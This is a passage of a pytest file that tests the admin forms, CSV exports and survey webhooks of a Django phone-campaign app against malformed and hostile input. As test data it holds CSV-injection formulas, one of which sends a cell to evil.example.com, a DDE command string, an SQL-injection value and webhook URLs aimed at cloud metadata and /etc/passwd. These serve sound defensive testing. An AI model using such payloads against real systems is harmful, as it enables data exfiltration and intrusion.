    contact = ContactFactory()
    url = reverse("admin:contact_do_not_call", args=[contact.pk])
    response = admin_client.post(url, data)
    assert response.status_code == 200 and response.context["form"].errors
    assert not Exclusion.objects.exists()


def test_do_not_call_twice_lists_the_number_once(admin_client):
    contact = ContactFactory()
    url = reverse("admin:contact_do_not_call", args=[contact.pk])
    for _ in range(2):
        assert admin_client.post(url, {"everywhere": "1", "reason": "asked"}).status_code == 302
    assert Exclusion.objects.filter(phone=contact.phone).count() == 1


# --- the do-not-call list's own form ----------------------------------------------------------

EXCLUSION_ADD = reverse("admin:contacts_exclusion_add")


@pytest.mark.parametrize(
    ("phone", "region"),
    [
        ("", "US"),
        ("call me", "US"),
        ("(212) 555-0142", ""),  # national, and no region to read it in: DEFAULT_REGION
        ("(212) 555-0142", "ZZ"),
        ("(212) 555-0142", "U\x00"),
        ("+1 212 555 0142\x00", "US"),
        ("1" * 41, "US"),
        ("+999 123", "US"),
        ("0", "FR"),
    ],
)
def test_the_do_not_call_form_refuses_what_is_not_a_number(admin_client, settings, phone, region):
    settings.DEFAULT_REGION = "GB"  # so that a US national number without its region is wrong
    response = admin_client.post(
        EXCLUSION_ADD, {"phone": phone, "region": region, "source": "manual"}
    )
    assert response.status_code == 200
    assert response.context["adminform"].form.errors
    assert not Exclusion.objects.exists()


def test_the_do_not_call_form_reads_a_national_number_in_its_region(admin_client):
    response = admin_client.post(
        EXCLUSION_ADD, {"phone": "(212) 555-0142", "region": "us", "source": "manual"}
    )
    assert response.status_code == 302, response.context["adminform"].form.errors
    assert Exclusion.objects.get().phone == PHONE
    again = admin_client.post(
        EXCLUSION_ADD, {"phone": "+1 212-555-0142", "region": "", "source": "manual"}
    )
    assert again.status_code == 200 and "already on the do-not-call list" in again.content.decode()
    assert Exclusion.objects.count() == 1


# --- the booking form with its repetition -----------------------------------------------------

BOOKING_ADD = reverse("admin:calls_scheduledcall_add")


@pytest.fixture
def grace():
    return ContactFactory(phone="+13125550148", campaign=SurveyCampaignFactory())  # Chicago


@pytest.mark.parametrize(
    "fields",
    [
        {"repeat": "DAILY", "ends": "count", "count": "0"},
        {"repeat": "DAILY", "ends": "count", "count": "-3"},
        {"repeat": "DAILY", "ends": "count", "count": "1e3"},
        {"repeat": "DAILY", "ends": "count", "count": "9" * 400},
        {"repeat": "DAILY", "ends": "until", "until": "2026-11-01"},  # before the first call
        {"repeat": "DAILY", "ends": "until", "until": "2027-02-29"},
        {"repeat": "DAILY", "ends": "until", "until": "0000-01-01"},
        {"repeat": "DAILY", "ends": "until", "until": "10000-01-01"},
        {"repeat": "DAILY", "interval": "0"},
        {"repeat": "DAILY", "interval": "366"},
        {"repeat": "DAILY", "interval": "9" * 400},
        {"repeat": "HOURLY"},
        {"repeat": "keep"},  # only offered when changing a rule set through the API
        {"repeat": "WEEKLY", "days": ["9"]},
        {"repeat": "WEEKLY", "days": ["x\x00"]},
        {"ends": "sometime", "repeat": "DAILY"},
        {"run_at_0": "2027-02-29"},
        {"run_at_0": "0000-01-01"},
        {"run_at_0": "10000-01-01"},
        {"run_at_0": "9999-12-31", "run_at_1": "23:30:00"},  # year 10000 in UTC
        {"run_at_1": "25:61:00"},
        {"run_at_0": "", "run_at_1": ""},
        {"timezone": "Mars/Olympus"},
        {"timezone": "Europe/Paris\x00"},
        {"contact": "424242"},
        {"contact": "abc"},
        {"contact": "99999999999999999999999"},
        {"contact": "1\x00"},
        {"max_retries": "-1"},
        {"max_retries": "11"},
        {"max_retries": "9" * 400},
        {"retry_delay_minutes": "0"},
        {"retry_delay_minutes": "9" * 400},
        {"misfire_grace_seconds": "86401"},
        {"misfire_grace_seconds": "9" * 400},
        {"note": "n" * 501},
    ],
)
def test_the_booking_form_refuses_bad_fields_with_a_message(admin_client, grace, fields):
    data = {**booking_form(grace), "timezone": "America/Chicago", **fields}
    response = admin_client.post(BOOKING_ADD, data)
    assert response.status_code == 200, response.get("Location")
    assert response.context["adminform"].form.errors or response.context["errors"]
    assert not ScheduledCall.objects.exists()


@pytest.mark.parametrize("campaign", ["abc", "99999999999999999999999", "", "1 OR 1=1"])
def test_the_contact_form_with_a_campaign_that_is_no_id_says_so(admin_client, campaign):
    data = {"phone": PHONE, "region": "US", "campaign": campaign, "attributes": "{}"}
    response = admin_client.post(reverse("admin:contacts_contact_add"), data)
    assert response.status_code == 200
    assert "campaign" in response.context["adminform"].form.errors
    assert not Contact.objects.exists()


@pytest.mark.parametrize(
    ("day", "time", "utc"),
    [
        ("2027-03-14", "02:30:00", None),  # does not exist: refused (the legal window), no crash
        ("2026-11-01", "01:30:00", None),  # happens twice (already past, as it should say)
        ("2027-03-14", "12:30:00", dt.datetime(2027, 3, 14, 17, 30, tzinfo=dt.UTC)),  # CDT
    ],
)
def test_a_booking_around_a_daylight_saving_change_never_crashes(
    admin_client, admin_user, grace, day, time, utc
):
    with time_machine.travel(dt.datetime(2027, 3, 10, 17, 0, tzinfo=dt.UTC), tick=False):
        admin_client.force_login(admin_user)  # the session would have expired by then
        data = {**booking_form(grace), "timezone": "America/Chicago", "run_at_0": day}
        response = admin_client.post(BOOKING_ADD, {**data, "run_at_1": time})
    if utc is None:
        assert response.status_code == 200 and response.context["adminform"].form.errors
        assert not ScheduledCall.objects.exists()
    else:
        assert response.status_code == 302
        assert ScheduledCall.objects.get().next_run_at == utc


def test_the_booking_form_sent_twice_books_twice_no_half(admin_client, grace):
    """A booking is a booking each time (as in the API); each is whole, with its event."""
    data = {**booking_form(grace), "repeat": "DAILY", "ends": "count", "count": "3"}
    for _ in range(2):
        assert admin_client.post(BOOKING_ADD, data).status_code == 302
    assert [c.rrule for c in ScheduledCall.objects.all()] == ["FREQ=DAILY;COUNT=3"] * 2
    assert all(c.events.filter(kind="created").count() == 1 for c in ScheduledCall.objects.all())


def test_a_viewer_cannot_book_nor_change_a_booking(viewer_staff, grace, csrf_admin):
    data = booking_form(grace)
    assert viewer_staff.post(BOOKING_ADD, data).status_code == 403
    assert csrf_admin.post(BOOKING_ADD, data).status_code == 403
    assert not ScheduledCall.objects.exists()


# --- the CSV downloads ------------------------------------------------------------------------

CONTACTS_CSV = reverse("admin:contacts_contact_export")
ATTEMPTS_CSV = reverse("admin:calls_callattempt_export")
FORMULA = '=HYPERLINK("https://evil.example.com/?x="&A1,"Click")'


def csv_text(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def called():
    contact = ContactFactory(phone=PHONE, name=FORMULA, external_id="@SUM(1+1)")
    CallAttemptFactory(contact=contact, campaign=contact.campaign)
    contact.campaign.name = "+cmd|' /C calc'!A0"
    contact.campaign.save()
    return contact


def test_the_exports_keep_formulas_from_running(admin_client, called):
    for url in (CONTACTS_CSV, ATTEMPTS_CSV):
        text = csv_text(admin_client.get(url))
        assert PHONE in text
        for cell in (FORMULA, "@SUM(1+1)", "+cmd|' /C calc'!A0"):
            if cell in text:
                assert f"'{cell}" in text or f"\"'{cell}" in text, (url, text)
        assert "\n=" not in text and ",=" not in text and ',"=' not in text


def test_an_attempt_viewer_gets_the_attempts_without_numbers_nor_names(
    client, django_user_model, called
):
    viewer = staff_client(client, django_user_model, "calls.view_callattempt")
    text = csv_text(viewer.get(ATTEMPTS_CSV))
    assert PHONE not in text and "HYPERLINK" not in text and PHONE[2:] not in text
    assert viewer.get(CONTACTS_CSV).status_code == 403


@pytest.mark.parametrize(
    "query",
    [
        {"state__exact": "x\x00"},
        {"campaign__id__exact": "abc"},
        {"q": "\x00"},
        {"q": "+" + "1" * 5000},
        {"o": "99"},
        {"not_a_field": "1"},
        {"next_attempt_at__gte": "10000-01-01"},
    ],
)
def test_an_export_with_junk_filters_is_never_a_500(admin_client, called, query):
    for url in (CONTACTS_CSV, ATTEMPTS_CSV):
        response = admin_client.get(url, query)
        assert response.status_code in (200, 302, 400), (url, query, response.status_code)
        if response.status_code == 200:
            csv_text(response)


def test_nobody_without_a_view_permission_downloads_anything(client, django_user_model, called):
    nobody = staff_client(client, django_user_model, "campaigns.view_campaign")
    assert nobody.get(CONTACTS_CSV).status_code == 403
    assert nobody.get(ATTEMPTS_CSV).status_code == 403
    assert Client().get(CONTACTS_CSV).status_code == 302


# --- the rejected rows of an import -----------------------------------------------------------


def keep_rows(user, *, kind="contacts", at=None):
    from contacts.models import RejectedImportRows

    return RejectedImportRows.objects.create(
        created_by=user,
        created_at=at or dt.datetime(2026, 11, 23, 16, 0, tzinfo=dt.UTC),
        kind=kind,
        header=["phone"],
        rows=[[PHONE, "too short"]],
        rejected=1,
    )


def rejected_url(kept, model="contact"):
    return reverse(f"admin:contacts_{model}_import_rejected", args=[kept.pk])


def test_the_rejected_rows_are_their_importers_only(client, django_user_model, admin_user):
    kept = keep_rows(admin_user)
    other = staff_client(client, django_user_model, "contacts.add_contact", "contacts.view_contact")
    assert other.get(rejected_url(kept)).status_code == 404
    assert PHONE.encode() not in other.get(rejected_url(kept)).content


def test_the_rejected_rows_need_view_and_add(client, django_user_model):
    viewer = staff_client(client, django_user_model, "contacts.view_contact", username="v")
    kept = keep_rows(viewer.session and django_user_model.objects.get(username="v"))
    assert viewer.get(rejected_url(kept)).status_code == 403


def test_the_rejected_rows_of_one_list_are_not_read_through_the_other(admin_client, admin_user):
    kept = keep_rows(admin_user, kind="contacts")
    assert admin_client.get(rejected_url(kept, "exclusion")).status_code == 404
    assert admin_client.get(rejected_url(kept)).status_code == 200


def test_expired_or_unknown_rejected_rows_are_a_404(admin_client, admin_user):
    kept = keep_rows(admin_user, at=dt.datetime(2026, 11, 22, 16, 0, tzinfo=dt.UTC))
    assert admin_client.get(rejected_url(kept)).status_code == 404
    big = rejected_url(kept).replace(f"/{kept.pk}.csv", "/99999999999999999999999.csv")
    assert admin_client.get(big).status_code == 404


# --- the webhook and provider account admins -------------------------------------------------


def test_the_subscription_secret_never_shows_again_in_the_admin(admin_client):
    subscription = WebhookSubscriptionFactory()
    change = reverse("admin:hooks_webhooksubscription_change", args=[subscription.pk])
    pages = [
        admin_client.get(change),
        admin_client.get(reverse("admin:hooks_webhooksubscription_changelist")),
        admin_client.get(
            reverse("admin:hooks_webhooksubscription_history", args=[subscription.pk])
        ),
        admin_client.post(change, {"url": "ftp://x", "event_types": ["attempt.finished"]}),
        admin_client.post(
            change,
            {"url": subscription.url, "event_types": ["attempt.finished"], "secret": "mine"},
            follow=True,
        ),
    ]
    for page in pages:
        assert page.status_code == 200
        assert subscription.secret not in page.content.decode()
    before = subscription.secret
    subscription.refresh_from_db()
    assert subscription.secret == before


@pytest.mark.parametrize(
    "data",
    [
        {"url": "javascript:alert(1)", "event_types": ["attempt.finished"]},
        {"url": "file:///etc/passwd", "event_types": ["attempt.finished"]},
        {"url": "http://169.254.169.254/", "event_types": ["attempt.finished"]},
        {"url": "https://ok.example.com/", "event_types": ["nope"]},
        {"url": "https://ok.example.com/", "event_types": []},
        {"url": "https://ok.example.com/\x00", "event_types": ["attempt.finished"]},
        {"url": "https://ok.example.com/" + "a" * 2000, "event_types": ["attempt.finished"]},
    ],
)
def test_the_subscription_admin_refuses_bad_urls_and_events(admin_client, settings, data):
    settings.WEBHOOK_ALLOW_PRIVATE_URLS = False
    response = admin_client.post(reverse("admin:hooks_webhooksubscription_add"), data)
    assert response.status_code == 200 and response.context["adminform"].form.errors
    assert not WebhookSubscription.objects.exists()


def test_a_viewer_cannot_send_a_delivery_again_from_the_admin(viewer_staff, csrf_admin):
    delivery = WebhookDeliveryFactory(status="failed")
    post = {"action": "resend", "_selected_action": [delivery.pk]}
    url = reverse("admin:hooks_webhookdelivery_changelist")
    response = viewer_staff.post(url, post, follow=True)
    assert response.status_code in (200, 403)
    assert csrf_admin.post(url, post).status_code == 403
    delivery.refresh_from_db()
    assert delivery.status == "failed"


@pytest.mark.parametrize(
    "data",
    [
        {"provider": "simulated", "calls_per_second": "NaN"},
        {"provider": "simulated", "calls_per_second": "inf"},
        {"provider": "simulated", "calls_per_second": "-1"},
        {"provider": "simulated", "calls_per_second": "1e999"},
        {"provider": "simulated", "max_concurrent_calls": "9" * 400},
        {"provider": "simulated", "max_concurrent_calls": "0"},
        {"provider": "pigeon"},
        {"provider": "simulated", "account": "AC\x00"},
    ],
)
def test_the_provider_account_admin_refuses_bad_limits(admin_client, data):
    response = admin_client.post(reverse("admin:calls_provideraccount_add"), data)
    assert response.status_code == 200 and response.context["adminform"].form.errors
    assert not ProviderAccount.objects.exists()


def test_a_viewer_cannot_change_the_limits_in_the_admin(viewer_staff):
    account = ProviderAccount.objects.create(provider="simulated", max_concurrent_calls=5)
    change = reverse("admin:calls_provideraccount_change", args=[account.pk])
    response = viewer_staff.post(change, {"provider": "simulated", "max_concurrent_calls": "50"})
    assert response.status_code == 403
    account.refresh_from_db()
    assert account.max_concurrent_calls == 5


# --- the provider's survey webhooks (one prepared statement on PostgreSQL) --------------------


@pytest.fixture
def surveyed(open_now):
    from tests.factories import QuestionFactory
    from tests.webhook_helpers import live_attempt

    campaign = RunningCampaignFactory()
    QuestionFactory(campaign=campaign, position=1, kind="scale", min_value=1, max_value=5)
    QuestionFactory(campaign=campaign, position=2, kind="speech", prompt="Anything else?")
    contact = ContactFactory(campaign=campaign, phone=PHONE)
    return live_attempt(now=open_now, contact=contact, status="in_progress")


def gather(client, attempt, position, params, *, call_id=None, query=""):
    from django.conf import settings

    from tests.webhook_helpers import signed_post

    call_id = call_id or attempt.call_id
    url = f"{settings.PUBLIC_BASE_URL}/webhooks/gather/{call_id}/{position}/{query}"
    return signed_post(client, url, params)


def answers_and_events(attempt):
    from calls.models import Answer, CallEvent

    return Answer.objects.count(), CallEvent.objects.filter(attempt=attempt).count()


@pytest.mark.parametrize(
    "params",
    [
        {"Digits": "1" * 65},
        {"Digits": "1" * 100_000},
        {"Digits": "3\x00"},
        {"SpeechResult": "fine\x00"},
        {"Digits": "3", "To": PHONE + "\x00"},
    ],
)
def test_a_gather_no_keypad_sends_is_a_400_and_writes_nothing(client, surveyed, params, caplog):
    before = answers_and_events(surveyed)
    with caplog.at_level(logging.DEBUG):
        response = gather(client, surveyed, 1, params)
    assert response.status_code in (400, 413), response.content
    assert answers_and_events(surveyed) == before
    no_phone_in(caplog)


@pytest.mark.parametrize("digits", ["٣", "３", "3️⃣", "½", "*#", "+", "-1", "  3 "])
def test_a_gather_with_odd_keys_is_answered_without_a_crash(client, surveyed, digits):
    from tests.webhook_helpers import twiml

    root = twiml(gather(client, surveyed, 1, {"Digits": digits}))
    assert root.tag == "Response"


@pytest.mark.parametrize("position", ["0", "3", "99999999999999999999", "9" * 5000])
def test_a_gather_for_a_question_the_campaign_lacks_is_a_404(client, surveyed, position):
    response = gather(client, surveyed, position, {"Digits": "3"})
    assert response.status_code == 404
    from calls.models import Answer

    assert not Answer.objects.exists()


def test_a_gather_at_a_negative_position_is_no_webhook(client, surveyed):
    assert gather(client, surveyed, "-1", {"Digits": "3"}).status_code == 404
    assert answers_and_events(surveyed)[0] == 0


@pytest.mark.parametrize("call_id", ["nope", "0" * 32, "x" * 5000])
def test_a_gather_for_an_unknown_call_is_a_404_and_writes_nothing(client, surveyed, call_id):
    from calls.models import CallEvent

    response = gather(client, surveyed, 1, {"Digits": "3", "To": PHONE}, call_id=call_id)
    assert response.status_code == 404
    assert not CallEvent.objects.exists()


@pytest.mark.parametrize("query", ["?retry=-5", "?retry=abc", "?retry=" + "9" * 5000, "?retry=%00"])
def test_a_gather_with_a_garbled_retry_count_never_crashes(client, surveyed, query):
    response = gather(client, surveyed, 1, {"Digits": ""}, query=query)
    if "%00" in query:
        assert response.status_code == 400
    else:
        assert response.status_code == 200 and response["Content-Type"].startswith("text/xml")


def test_a_replayed_gather_keeps_one_answer(client, surveyed):
    from calls.models import Answer

    params = {"Digits": "4", "To": PHONE}
    first, second = gather(client, surveyed, 1, params), gather(client, surveyed, 1, params)
    assert first.status_code == second.status_code == 200
    assert first.content == second.content  # the same next question, asked again
    assert list(Answer.objects.values_list("value", flat=True)) == ["4"]


def test_a_gather_after_the_call_ended_is_answered_without_a_crash(client, surveyed, open_now):
    from calls.models import Answer

    surveyed.status, surveyed.ended_at = "completed", open_now
    surveyed.save()
    response = gather(client, surveyed, 1, {"Digits": "4"})
    assert response.status_code == 200
    assert Answer.objects.count() == 1  # given during the call: it counts (calls/webhooks/survey)


def test_a_gather_unsigned_or_by_get_writes_nothing(client, surveyed):
    from django.conf import settings

    from tests.webhook_helpers import signed_post

    path = f"/webhooks/gather/{surveyed.call_id}/1/"
    assert client.post(path, {"Digits": "4"}).status_code == 403
    assert client.get(path).status_code == 405
    wrong = signed_post(
        client, f"{settings.PUBLIC_BASE_URL}{path}", {"Digits": "4"}, token="not-the-token"
    )
    assert wrong.status_code == 403
    assert answers_and_events(surveyed) == (0, 0)


def test_the_logged_gather_masks_the_numbers(client, surveyed):
    from calls.models import CallEvent

    gather(client, surveyed, 1, {"Digits": "4", "To": PHONE, "From": "+15005550006"})
    payload = CallEvent.objects.get(attempt=surveyed, kind="webhook").payload
    assert PHONE not in json.dumps(payload) and payload["Digits"] == "4"


@pytest.mark.parametrize(
    "url",
    [
        "/admin/contacts/contact/?state__exact=%00",
        "/admin/calls/callattempt/?error_code=x%00",
        "/admin/contacts/contact/?q=%00",
        "/admin/calls/scheduledcall/?q=a%00",
        "/admin/contacts/contact/export.csv?state__exact=%00",
        "/admin/autocomplete/?app_label=calls&model_name=scheduledcall&field_name=contact&term=%00",
        "/admin/campaigns/campaign/dashboard/live/?x=%00",
    ],
)
def test_a_nul_in_a_back_office_address_is_a_400(admin_client, url):
    """PostgreSQL text cannot hold one; the admin's filters hand it to the database."""
    response = admin_client.get(url)
    assert response.status_code == 400
